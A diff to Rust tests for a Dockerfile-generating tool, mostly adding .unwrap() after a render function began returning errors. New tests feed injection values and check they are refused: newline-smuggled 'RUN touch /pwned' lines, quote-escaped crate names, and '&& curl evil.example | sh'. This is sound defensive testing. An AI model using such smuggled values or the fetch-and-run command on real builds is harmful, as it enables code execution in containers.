@@ -73,7 +73,10 @@ fn run_ok(cmd: &mut Command) -> String {
 
 #[test]
 fn builder_dockerfile_snapshots() {
-    insta::assert_snapshot!("builder_minimal", builder::render(&minimal_options()));
+    insta::assert_snapshot!(
+        "builder_minimal",
+        builder::render(&minimal_options()).unwrap()
+    );
     let crates = Options {
         source: Source::Crates(
             builder::parse_crates("tokio@1+full,serde@1+derive,axum@0.8+-default+json+http1+tokio")
@@ -83,7 +86,7 @@ fn builder_dockerfile_snapshots() {
         nextest: Some("0.9.100".to_string()),
         ..Options::default()
     };
-    insta::assert_snapshot!("builder_crates", builder::render(&crates));
+    insta::assert_snapshot!("builder_crates", builder::render(&crates).unwrap());
 }
 
 /// images/rust-builder/Dockerfile is what the current code generates for `--preset web`.
@@ -91,7 +94,7 @@ fn builder_dockerfile_snapshots() {
 #[test]
 fn checked_in_builder_dockerfile_is_current() {
     let path = repo().join(builder::CHECKED_IN_PATH);
-    let expected = builder::render(&Options::default());
+    let expected = builder::render(&Options::default()).unwrap();
     assert!(
         expected.contains("#   prewarm image --builder --preset web\n"),
         "the header names the command that regenerates it"
@@ -112,8 +115,8 @@ fn checked_in_builder_dockerfile_is_current() {
 #[test]
 fn builder_dockerfile_is_portable_and_deterministic() {
     for opts in [Options::default(), minimal_options()] {
-        let a = builder::render(&opts);
-        let b = builder::render(&opts.clone());
+        let a = builder::render(&opts).unwrap();
+        let b = builder::render(&opts.clone()).unwrap();
         assert_eq!(a, b);
         let code: String = a
             .lines()
@@ -137,7 +140,7 @@ fn builder_dockerfile_is_portable_and_deterministic() {
             assert!(a.contains(var), "sets {var}");
         }
     }
-    let web = builder::render(&Options::default());
+    let web = builder::render(&Options::default()).unwrap();
     for needle in [
         "clang mold sccache",
         "cargo install --locked cargo-nextest@",
@@ -158,7 +161,7 @@ fn builder_dockerfiles_pass_hadolint() {
     let dir = tempfile::tempdir().unwrap();
     for (name, opts) in [("web", Options::default()), ("minimal", minimal_options())] {
         let path = dir.path().join(format!("{name}.Dockerfile"));
-        std::fs::write(&path, builder::render(&opts)).unwrap();
+        std::fs::write(&path, builder::render(&opts).unwrap()).unwrap();
         run_ok(Command::new(&hadolint).arg("--no-color").arg(&path));
     }
 }
@@ -451,7 +454,7 @@ fn builder_image_is_built_and_a_project_from_it_reuses_every_unit() {
     let ctx = work.path().join("builder");
     std::fs::create_dir_all(&ctx).unwrap();
     std::fs::copy(fixture.join("Cargo.lock"), ctx.join("Cargo.lock")).unwrap();
-    std::fs::write(ctx.join("Dockerfile"), builder::render(&opts)).unwrap();
+    std::fs::write(ctx.join("Dockerfile"), builder::render(&opts).unwrap()).unwrap();
     buildah_build(&ctx.join("Dockerfile"), &ctx, BUILDER_TAG, true);
 
     // The project, FROM the builder, with --no-cache so that the build runs every time. With chroot
@@ -549,7 +552,7 @@ fn help_texts() {
 #[test]
 fn image_builder_command_line() {
     let stdout = run_ok(prewarm().args(["image", "--builder", "--preset", "web", "--output", "-"]));
-    assert_eq!(stdout, builder::render(&Options::default()));
+    assert_eq!(stdout, builder::render(&Options::default()).unwrap());
 
     let dir = tempfile::tempdir().unwrap();
     let path = dir.path().join("Dockerfile");
@@ -571,7 +574,7 @@ fn image_builder_command_line() {
     );
     assert_eq!(
         std::fs::read_to_string(&path).unwrap(),
-        builder::render(&minimal_options())
+        builder::render(&minimal_options()).unwrap()
     );
 
     let crates = run_ok(prewarm().args([
@@ -604,4 +607,97 @@ fn image_builder_command_line() {
     assert!(
         String::from_utf8_lossy(&out.stderr).contains("(hint: write NAME[@VERSION][+FEATURE...]")
     );
+}
+
+/// Every value that goes into the builder Dockerfile is checked, naming its flag: a line break
+/// in the base image, the Rust version or the nextest version would start an instruction of
+/// its own.
+#[test]
+fn image_builder_refuses_values_that_cannot_be_written() {
+    for (args, value, origin) in [
+        (
+            &["--base-image", "rust:1.95\nRUN touch /pwned"][..],
+            "rust:1.95\\nRUN touch /pwned",
+            "`--base-image`",
+        ),
+        (
+            &["--rust-version", "1.95\nRUN touch /pwned"][..],
+            "1.95\\nRUN touch /pwned",
+            "`--rust-version`",
+        ),
+        (
+            &["--nextest-version", "0.9.151 && curl evil.example | sh"][..],
+            "0.9.151 && curl evil.example | sh",
+            "`--nextest-version`",
+        ),
+        (
+            &["--nextest-version", "0.9.151\nRUN touch /pwned"][..],
+            "0.9.151\\nRUN touch /pwned",
+            "`--nextest-version`",
+        ),
+    ] {
+        let out = prewarm()
+            .args(["image", "--builder", "-o", "-"])
+            .args(args)
+            .output()
+            .unwrap();
+        let stdout = String::from_utf8_lossy(&out.stdout);
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(
+            out.status.code(),
+            Some(1),
+            "{args:?} was not refused:\n{stdout}"
+        );
+        assert!(stdout.is_empty(), "{stdout}");
+        let want = format!("`{value}` (from {origin})");
+        assert!(
+            stderr.contains(&want),
+            "{args:?}: no `{want}` in:\n{stderr}"
+        );
+        assert!(stderr.contains("hint:"), "{stderr}");
+    }
+    let out = prewarm()
+        .args([
+            "image",
+            "--builder",
+            "--lockfile",
+            "Cargo.lock\nRUN x",
+            "-o",
+            "-",
+        ])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("is not a plain path"));
+}
+
+/// The library refuses such values too, whoever builds the options.
+#[test]
+fn builder_render_checks_the_options() {
+    let bad_image = Options {
+        base_image: "rust\nRUN touch /pwned".to_string(),
+        ..Options::default()
+    };
+    assert!(builder::render(&bad_image).is_err());
+    let bad_crate = Options {
+        source: Source::Crates(vec![builder::CrateSpec {
+            name: "serde = \"1\"\nevil".to_string(),
+            version: "1".to_string(),
+            default_features: true,
+            features: Vec::new(),
+        }]),
+        ..Options::default()
+    };
+    let err = builder::render(&bad_crate).unwrap_err();
+    assert!(err.message().contains("invalid crate"), "{err}");
+    let bad_feature = Options {
+        source: Source::Crates(vec![builder::CrateSpec {
+            name: "serde".to_string(),
+            version: "1".to_string(),
+            default_features: true,
+            features: vec!["derive\"]\nx".to_string()],
+        }]),
+        ..Options::default()
+    };
+    assert!(builder::render(&bad_feature).is_err());
 }
